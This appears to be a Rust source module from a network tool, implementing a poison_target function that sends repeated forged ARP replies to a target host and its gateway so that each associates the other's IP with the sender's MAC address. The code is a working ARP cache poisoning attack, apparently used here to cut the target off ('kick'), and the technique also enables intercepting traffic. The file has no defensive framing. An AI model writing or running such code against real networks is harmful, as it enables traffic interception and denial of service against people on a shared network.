use super::arp::{open_sender, send_arp_reply, ArpPeers};
use anyhow::Result;
use std::thread;
use std::time::Duration;

/// Forged ARP replies in both directions: the target learns that the gateway
/// is at our MAC, the gateway learns that the target is at our MAC. Blocking;
/// run it on a blocking thread.
pub fn poison_target(peers: &ArpPeers, rounds: u32, pause: Duration) -> Result<()> {
    let mut tx = open_sender(&peers.interface)?;

    for round in 0..rounds {
        // To the target: pretend to be the gateway
        send_arp_reply(
            &mut *tx,
            peers.our_mac,
            peers.gateway_ip,
            peers.our_mac,
            peers.target_ip,
            peers.target_mac,
        )?;

        // To the gateway: pretend to be the target
        send_arp_reply(
            &mut *tx,
            peers.our_mac,
            peers.target_ip,
            peers.our_mac,
            peers.gateway_ip,
            peers.gateway_mac,
        )?;

        if round + 1 < rounds {
            thread::sleep(pause);
        }
    }

    tracing::info!(
        "Sent {} rounds of ARP announcements to kick {}",
        rounds,
        peers.target_ip
    );
    Ok(())
}
